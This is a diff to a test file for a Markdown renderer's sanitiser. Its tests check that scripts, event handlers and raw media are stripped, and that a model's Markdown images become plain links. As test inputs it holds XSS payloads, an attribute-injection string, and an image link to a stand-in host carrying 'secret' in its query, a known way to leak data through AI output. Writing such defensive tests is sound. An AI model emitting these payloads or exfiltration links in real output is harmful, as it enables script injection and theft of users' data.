@@ -26,12 +26,26 @@ describe('Markdown', () => {
   it('removes scripts and event handlers from raw HTML', () => {
     const container = mount('Hi <script>window.__pwned = true</script><img src="x.png" onerror="window.__pwned = true"> <b onclick="alert(1)">there</b>');
     expect(container.querySelector('script')).toBeNull();
-    const image = container.querySelector('img');
-    expect(image).not.toBeNull();
-    expect(image).not.toHaveAttribute('onerror');
+    expect(container.querySelector('img')).toBeNull();
     expect(container.querySelector('b')).not.toHaveAttribute('onclick');
     expect(container.innerHTML).not.toMatch(/pwned|onerror|onclick/);
     expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
+  });
+
+  it('never loads a model\'s image by itself: Markdown images become links, raw media is dropped', () => {
+    const container = mount('![chart](https://evil.example/leak?q=secret) <img src="https://evil.example/x.png"> <video src="https://evil.example/v.mp4"></video>');
+    expect(container.querySelector('img, video, source, picture')).toBeNull();
+    const link = container.querySelector('a.image-link')!;
+    expect(link).toHaveAttribute('href', 'https://evil.example/leak?q=secret');
+    expect(link).toHaveTextContent('chart');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
+  it('escapes an image\'s alt text and URL in the link it becomes', () => {
+    const container = mount('![<b onclick=x>"a"</b>](https://example.com/a"onmouseover="x)');
+    const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((attribute) => attribute.name));
+    expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
+    expect(container.querySelector('b')).toBeNull();
   });
 
   it('removes javascript: and other non-web links from Markdown and HTML links', () => {
